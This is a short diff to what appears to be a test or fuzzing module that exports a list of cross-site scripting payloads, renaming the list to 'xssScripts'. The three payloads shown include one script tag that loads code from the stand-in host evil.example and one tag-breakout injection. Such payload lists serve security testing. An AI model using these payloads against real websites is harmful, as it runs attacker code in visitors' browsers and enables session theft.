@@ -1,5 +1,5 @@
-/** Thirty ways to have a page run what somebody wrote. */
-export const scripts = [
+/** Thirty ways to make a page execute a script from user input. */
+export const xssScripts = [
   `<script>alert(1)</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
   `</script><script>alert(1)</script>`,
